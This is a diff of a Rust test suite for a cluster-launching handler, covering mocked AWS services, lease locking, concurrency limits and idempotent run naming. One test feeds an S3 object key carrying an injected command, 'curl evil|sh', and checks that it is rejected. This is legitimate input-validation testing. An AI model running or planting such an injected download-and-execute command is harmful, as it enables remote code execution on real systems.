@@ -74,6 +74,8 @@ impl Workflow for Executions {
             .then(|| arn(name)))
     }
     async fn start_execution(&self, name: &str, input: &str) -> Result<Started, AwsError> {
+        // Let concurrent invocations interleave here, as real calls would.
+        tokio::task::yield_now().await;
         let mut started = self.started.lock().unwrap();
         if self.race || started.contains_key(name) {
             return Ok(Started::AlreadyExisted(arn(name)));
@@ -81,21 +83,79 @@ impl Workflow for Executions {
         started.insert(name.into(), serde_json::from_str(input).unwrap());
         Ok(Started::New(arn(name)))
     }
-}
-
-#[derive(Default)]
-struct Clusters(Vec<ClusterSummary>);
-
-impl ClusterDirectory for Clusters {
-    async fn active_clusters(&self) -> Result<Vec<ClusterSummary>, AwsError> {
-        Ok(self.0.clone())
+    /// Every started execution still runs (none has a cluster yet).
+    async fn running_executions(&self) -> Result<Vec<String>, AwsError> {
+        tokio::task::yield_now().await;
+        Ok(self.started.lock().unwrap().keys().cloned().collect())
     }
 }
 
-fn cluster(id: &str, tags: &[(&str, &str)]) -> ClusterSummary {
+#[derive(Default)]
+struct Clusters {
+    clusters: Vec<ClusterSummary>,
+    /// The names asked for.
+    asked: Mutex<Vec<String>>,
+}
+
+impl ClusterDirectory for Clusters {
+    async fn active_clusters(&self, name: &str) -> Result<Vec<ClusterSummary>, AwsError> {
+        self.asked.lock().unwrap().push(name.into());
+        tokio::task::yield_now().await;
+        Ok(self
+            .clusters
+            .iter()
+            .filter(|c| c.name == name)
+            .cloned()
+            .collect())
+    }
+}
+
+/// An in-memory compare-and-swap store per key.
+#[derive(Default)]
+struct Leases(Mutex<BTreeMap<String, (u32, String)>>);
+
+impl LeaseStore for Leases {
+    async fn read(&self, key: &str) -> Result<Option<(String, String)>, AwsError> {
+        tokio::task::yield_now().await;
+        Ok(self
+            .0
+            .lock()
+            .unwrap()
+            .get(key)
+            .map(|(v, b)| (v.to_string(), b.clone())))
+    }
+    async fn create(&self, key: &str, body: &str) -> Result<Option<String>, AwsError> {
+        tokio::task::yield_now().await;
+        let mut all = self.0.lock().unwrap();
+        if all.contains_key(key) {
+            return Ok(None);
+        }
+        all.insert(key.into(), (1, body.into()));
+        Ok(Some("1".into()))
+    }
+    async fn replace(
+        &self,
+        key: &str,
+        version: &str,
+        body: &str,
+    ) -> Result<Option<String>, AwsError> {
+        tokio::task::yield_now().await;
+        let mut all = self.0.lock().unwrap();
+        match all.get_mut(key) {
+            Some((v, b)) if v.to_string() == version => {
+                *v += 1;
+                *b = body.into();
+                Ok(Some(v.to_string()))
+            }
+            _ => Ok(None),
+        }
+    }
+}
+
+fn cluster(id: &str, name: &str, tags: &[(&str, &str)]) -> ClusterSummary {
     ClusterSummary {
         id: id.into(),
-        name: "n".into(),
+        name: name.into(),
         state: ClusterState::Waiting,
         tags: tags
             .iter()
@@ -104,7 +164,7 @@ fn cluster(id: &str, tags: &[(&str, &str)]) -> ClusterSummary {
     }
 }
 
-type Handler = CreateCluster<Profiles, Scripts, Executions, Clusters>;
+type Handler = CreateCluster<Profiles, Scripts, Executions, Clusters, Leases>;
 
 fn handler_with(files: &[(&str, &str)]) -> Handler {
     CreateCluster {
@@ -128,6 +188,11 @@ fn handler_with(files: &[(&str, &str)]) -> Handler {
         scripts: Scripts::default(),
         workflow: Executions::default(),
         clusters: Clusters::default(),
+        leases: Leases::default(),
+        lease_wait: LeaseWait {
+            attempts: 200,
+            pause: std::time::Duration::from_millis(1),
+        },
         now: || "2026-11-25T07:00:00Z".parse().unwrap(),
     }
 }
@@ -151,17 +216,21 @@ fn started_inputs(h: &Handler) -> BTreeMap<String, Value> {
 async fn manual_invoke_starts_a_run_with_the_rendered_profile() {
     let h = handler();
     let outcome = h.handle(event("create-cluster-manual.json")).await.unwrap();
-    let name = "tutorial-manual-20261125T070000Z";
+    let name = name_of("tutorial", "manual-20261125T070000Z");
+    assert!(
+        name.starts_with("tutorial_manual-20261125T070000Z_"),
+        "{name}"
+    );
     assert_eq!(
         outcome,
         Outcome::Started {
             profile: "tutorial".into(),
-            execution_name: name.into(),
-            execution_arn: arn(name)
+            execution_name: name.clone(),
+            execution_arn: arn(&name)
         }
     );
     let inputs = started_inputs(&h);
-    let input = &inputs[name];
+    let input = &inputs[&name];
     assert_eq!(input["request"]["Name"], "sparkhub-tutorial");
     assert_eq!(input["request"]["LogUri"], "s3://sparkhub-test/logs/");
     assert_eq!(input["terminate_when_done"], false);
@@ -188,17 +257,17 @@ async fn the_same_scheduled_event_twice_starts_one_run() {
         .handle(event("create-cluster-scheduled-event.json"))
         .await
         .unwrap();
-    let name = "tutorial-53dc4d37-cffa-4f76-80c9-8b7d4a4d2eaa";
+    let name = name_of("tutorial", "53dc4d37-cffa-4f76-80c9-8b7d4a4d2eaa");
     assert!(
-        matches!(first, Outcome::Started { ref execution_name, .. } if execution_name == name),
+        matches!(first, Outcome::Started { ref execution_name, .. } if *execution_name == name),
         "{first:?}"
     );
     assert_eq!(
         second,
         Outcome::AlreadyStarted {
             profile: "tutorial".into(),
-            execution_name: name.into(),
-            execution_arn: arn(name)
+            execution_name: name.clone(),
+            execution_arn: arn(&name)
         }
     );
     assert_eq!(started_inputs(&h).len(), 1);
@@ -213,7 +282,7 @@ async fn a_concurrent_duplicate_is_already_started_too() {
         .await
         .unwrap();
     assert!(
-        matches!(outcome, Outcome::AlreadyStarted { ref execution_name, .. } if execution_name == "tutorial-schedule-2026-11-25T07-00-00Z"),
+        matches!(outcome, Outcome::AlreadyStarted { ref execution_name, .. } if *execution_name == name_of("tutorial", "schedule-2026-11-25T07:00:00Z")),
         "{outcome:?}"
     );
 }
@@ -354,38 +423,63 @@ async fn run_steps_are_validated_like_the_profile() {
     let Outcome::Started { execution_name, .. } = outcome else {
         panic!()
     };
-    assert_eq!(execution_name, "retrain-backfill-2026-11");
+    assert_eq!(execution_name, name_of("retrain", "backfill-2026-11"));
     assert_eq!(
         started_inputs(&h)[&execution_name]["steps"][0]["Name"],
         "score"
     );
 }
 
+fn name_of(profile: &str, run_id: &str) -> String {
+    execution_name(&ProfileName::parse(profile).unwrap(), run_id)
+}
+
 #[tokio::test]
 async fn the_active_cluster_limit_skips_and_says_why() {
     let mut h = handler();
-    h.clusters = Clusters(vec![
-        cluster("j-UNMANAGED", &[("sparkhub:profile", "tutorial")]),
+    h.clusters.clusters = vec![
+        cluster(
+            "j-UNMANAGED",
+            "sparkhub-tutorial",
+            &[("sparkhub:profile", "tutorial")],
+        ),
         cluster(
             "j-OTHER",
+            "sparkhub-retrain",
             &[
                 ("sparkhub:managed", "true"),
                 ("sparkhub:profile", "retrain"),
             ],
         ),
-    ]);
+    ];
     assert!(matches!(
         h.handle(json!({"profile": "tutorial", "run_id": "a"}))
             .await
             .unwrap(),
         Outcome::Started { .. }
     ));
+    assert_eq!(
+        *h.clusters.asked.lock().unwrap(),
+        ["sparkhub-tutorial"],
+        "only clusters with the profile's cluster name are looked at"
+    );
+    let input = &started_inputs(&h)[&name_of("tutorial", "a")];
+    assert!(
+        input["request"]["Tags"]
+            .as_array()
+            .unwrap()
+            .contains(&json!({"Key": "sparkhub:execution", "Value": name_of("tutorial", "a")})),
+        "the cluster names its run"
+    );
 
-    h.clusters.0.push(cluster(
+    // Run a's cluster is up: the run counts once, as its cluster.
+    h.clusters.clusters.push(cluster(
         "j-MINE",
+        "sparkhub-tutorial",
         &[
             ("sparkhub:managed", "true"),
             ("sparkhub:profile", "tutorial"),
+            ("sparkhub:execution", &name_of("tutorial", "a")),
         ],
     ));
     let outcome = h
@@ -395,23 +489,105 @@ async fn the_active_cluster_limit_skips_and_says_why() {
     let Outcome::Skipped { reason, .. } = outcome else {
         panic!("{outcome:?}")
     };
+    assert_eq!(
+        reason,
+        "1 active cluster(s) of profile tutorial already, the limit is 1 (max_active_clusters): j-MINE (WAITING)"
+    );
+    assert_eq!(started_inputs(&h).len(), 1);
+}
+
+#[tokio::test]
+async fn a_run_whose_cluster_is_not_listed_yet_counts() {
+    let h = handler();
+    h.handle(json!({"profile": "tutorial", "run_id": "a"}))
+        .await
+        .unwrap();
+    // No cluster is listed yet (ListClusters lags behind StartExecution).
+    let outcome = h
+        .handle(json!({"profile": "tutorial", "run_id": "b"}))
+        .await
+        .unwrap();
+    let Outcome::Skipped { reason, .. } = outcome else {
+        panic!("{outcome:?}")
+    };
     assert!(
-        reason.contains("j-MINE (WAITING)") && reason.contains("limit is 1"),
+        reason.contains(&format!("execution {}", name_of("tutorial", "a"))),
         "{reason}"
     );
-    assert!(!reason.contains("j-UNMANAGED") && !reason.contains("j-OTHER"));
-    assert_eq!(started_inputs(&h).len(), 1);
+}
 
-    // Pipelines have no limit by default.
-    h.clusters.0.push(cluster(
-        "j-R",
-        &[
-            ("sparkhub:managed", "true"),
-            ("sparkhub:profile", "retrain"),
-        ],
-    ));
+#[tokio::test]
+async fn pipelines_get_a_default_limit_of_five() {
+    let h = handler();
+    let mut outcomes = Vec::new();
+    for i in 0..7 {
+        let mut e = event("create-cluster-s3-object-created.json");
+        e["id"] = json!(format!("event-{i}"));
+        outcomes.push(h.handle(e).await.unwrap());
+    }
+    let started = outcomes
+        .iter()
+        .filter(|o| matches!(o, Outcome::Started { .. }))
+        .count();
+    assert_eq!(started, DEFAULT_PIPELINE_LIMIT as usize, "{outcomes:?}");
+    assert!(
+        matches!(&outcomes[6], Outcome::Skipped { reason, .. } if reason.contains("the limit is 5")),
+        "{:?}",
+        outcomes[6]
+    );
+}
+
+#[tokio::test]
+async fn fifty_concurrent_triggers_start_one_run() {
+    let h = std::sync::Arc::new(handler());
+    let mut tasks = tokio::task::JoinSet::new();
+    for i in 0..50 {
+        let h = h.clone();
+        tasks.spawn(async move {
+            h.handle(json!({"profile": "tutorial", "run_id": format!("burst-{i}")}))
+                .await
+        });
+    }
+    let mut started = 0;
+    while let Some(outcome) = tasks.join_next().await {
+        match outcome.unwrap().unwrap() {
+            Outcome::Started { .. } => started += 1,
+            Outcome::Skipped { .. } => {}
+            other => panic!("{other:?}"),
+        }
+    }
+    assert_eq!(
+        started, 1,
+        "max_active_clusters = 1 holds under concurrency"
+    );
+    assert_eq!(started_inputs(&h).len(), 1);
+}
+
+#[tokio::test]
+async fn a_lease_held_elsewhere_is_a_retryable_error_after_waiting() {
+    let mut h = handler();
+    h.lease_wait.attempts = 3;
+    h.leases.0.lock().unwrap().insert(
+        "locks/tutorial.json".into(),
+        (
+            1,
+            json!({"holder": "tutorial_x_000000000000", "expires_at": "2026-11-25T07:00:30Z"})
+                .to_string(),
+        ),
+    );
+    let err = h
+        .handle(json!({"profile": "tutorial", "run_id": "a"}))
+        .await
+        .unwrap_err();
+    assert!(matches!(err, CreateError::Busy { .. }), "{err}");
+    assert_eq!(err.error_type(), "sparkhub.Retryable");
+    assert!(err.to_string().contains("tutorial_x_000000000000"), "{err}");
+    assert!(started_inputs(&h).is_empty());
+
+    // Once it has expired, the lease is taken over.
+    h.now = || "2026-11-25T07:01:00Z".parse().unwrap();
     assert!(matches!(
-        h.handle(event("create-cluster-s3-object-created.json"))
+        h.handle(json!({"profile": "tutorial", "run_id": "a"}))
             .await
             .unwrap(),
         Outcome::Started { .. }
@@ -419,18 +595,36 @@ async fn the_active_cluster_limit_skips_and_says_why() {
 }
 
 #[tokio::test]
+async fn an_unsafe_object_key_starts_nothing() {
+    let h = handler();
+    let mut e = event("create-cluster-s3-object-created.json");
+    e["detail"]["object"]["key"] = json!("incoming/x;curl evil|sh");
+    let d = Diagnostic::from(h.handle(e).await.unwrap_err());
+    assert_eq!(d.error_type, "sparkhub.UnsafeObjectKey");
+    assert!(
+        d.error_message.contains("rename the object"),
+        "{}",
+        d.error_message
+    );
+    assert!(started_inputs(&h).is_empty());
+    assert!(h.scripts.0.lock().unwrap().is_empty());
+}
+
+#[tokio::test]
 async fn unchanged_scripts_are_not_uploaded_again() {
     let h = handler();
-    h.handle(json!({"profile": "tutorial", "run_id": "one"}))
+    h.handle(json!({"profile": "retrain", "run_id": "one"}))
         .await
         .unwrap();
-    h.handle(json!({"profile": "tutorial", "run_id": "two"}))
+    let uploaded = h.scripts.0.lock().unwrap().len();
+    assert!(uploaded > 0);
+    h.handle(json!({"profile": "retrain", "run_id": "two"}))
         .await
         .unwrap();
     assert_eq!(started_inputs(&h).len(), 2);
     assert_eq!(
         h.scripts.0.lock().unwrap().len(),
-        3,
+        uploaded,
         "the second run reuses the first run's scripts"
     );
 }
